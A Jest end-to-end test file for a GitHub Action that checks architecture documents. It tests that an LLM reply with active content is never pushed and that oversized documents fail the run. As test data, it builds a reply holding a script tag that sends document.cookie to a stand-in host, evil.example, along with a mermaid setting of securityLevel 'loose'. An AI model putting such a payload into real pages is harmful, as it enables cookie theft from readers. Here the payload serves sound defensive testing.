/**
 * Hostile input in the Action, end to end (the real dist/index.js, the fake GitHub and a fake LLM on
 * 127.0.0.1): a reply with active content is never pushed, and a document too large to read is
 * reported as not checked, failing the run.
 */
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { startFakeLlm, type FakeLlm } from '../../test-support/fake-llm/server.js';
import { DOC, REQS, REQUIREMENTS, VALID_DOC, scenarioPerTest, type Scenario } from './scenario.js';

const scenario = scenarioPerTest();
let s: Scenario;
let llm: FakeLlm;
beforeEach(async () => {
  s = scenario();
  llm = await startFakeLlm();
});
afterEach(async () => {
  await llm.close();
});

const KEY = 'sk-archdoc-test-0123456789';
const NEW_REQUIREMENT = `${REQUIREMENTS}- **Audit**: every price change is kept for seven years.\n`;
const UNSAFE_REPLY = VALID_DOC.replace('## 2.', '<script>fetch("https://evil.example/?c="+document.cookie)</script>\n\n## 2.').replace(
  /```mermaid\n/,
  '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\n',
);

describe('mode: regenerate with push: true', () => {
  it('a reply carrying <script> and a securityLevel change is sent back each round and never pushed, even with unsafe-content off', async () => {
    expect(UNSAFE_REPLY).toContain('<script>');
    expect(UNSAFE_REPLY).toContain('securityLevel');
    llm.reply({ text: UNSAFE_REPLY }, { text: UNSAFE_REPLY });
    const pr = s.openPr({ [REQS]: NEW_REQUIREMENT, '.archdoc.yml': 'rules:\n  unsafe-content: off\n' });
    const run = await s.run(pr, { mode: 'regenerate', 'llm-provider': 'openai', 'llm-base-url': llm.openaiBaseUrl, 'llm-model': 'test-model', 'llm-api-key': KEY, 'max-attempts': '2', push: 'true' });

    expect(llm.requests).toHaveLength(2);
    const repair = (llm.requests[1].body as { messages: { role: string; content: string }[] }).messages.at(-1)?.content ?? '';
    expect(repair).toMatch(/unsafe-content: Raw `<script>` element/);
    expect(repair).toMatch(/unsafe-content: mermaid configuration sets securityLevel to "loose"/);
    expect(run.outputs).toMatchObject({ changed: 'false', 'commit-sha': '' });
    expect(s.gh.fileAt('acme', 'shop', 'feature', DOC)).toBe(VALID_DOC);
    expect(s.calls().filter((c) => c.includes('CommitFile') || c.includes('createCommit'))).toEqual([]);
    const [comment] = s.comments(pr);
    expect(comment.body).toMatch(/regeneration failed/i);
    expect(comment.body).not.toContain('<script>');
  });
});

describe('a document larger than archdoc reads, through the API', () => {
  it('is reported "not checked: too large" in one line, its text is never fetched, and the run fails', async () => {
    const huge = `${VALID_DOC}\n${'Padding paragraph of a document that grew far too large.\n\n'.repeat(40_000)}`;
    expect(huge.length).toBeGreaterThan(2 * 1024 * 1024);
    const pr = s.openPr({ [DOC]: huge });
    const run = await s.run(pr);

    expect(run.exitCode).not.toBe(0);
    // The GraphQL read reports the size; the REST fallback that fetches truncated blobs is not used.
    expect(s.calls().filter((c) => c.startsWith('GET') && c.includes('/contents/'))).toEqual([]);
    const [comment] = s.comments(pr);
    expect(comment.body).toMatch(/not checked: docs\/02_architecture\.md: too large at [0-9a-f]{7} \(2\.\d MB; archdoc reads files up to 1 MB\)/);
    expect(run.stdout).toMatch(/^::error::.*docs\/02_architecture\.md was not checked: docs\/02_architecture\.md: too large at/m);
    expect(run.summary).toMatch(/too large/);
  });

  it('a document between GitHub\'s GraphQL text limit and the cap is read whole through REST and checked', async () => {
    const big = `${VALID_DOC}\n${'Padding paragraph of a long but acceptable document.\n\n'.repeat(11_000)}`;
    expect(big.length).toBeGreaterThan(512 * 1024);
    expect(big.length).toBeLessThan(1024 * 1024);
    const pr = s.openPr({ [DOC]: big });
    const run = await s.run(pr);
    expect(s.calls().filter((c) => c.startsWith('GET') && c.includes('/contents/'))).toHaveLength(1);
    expect(run.stdout).not.toMatch(/too large/);
  });
});
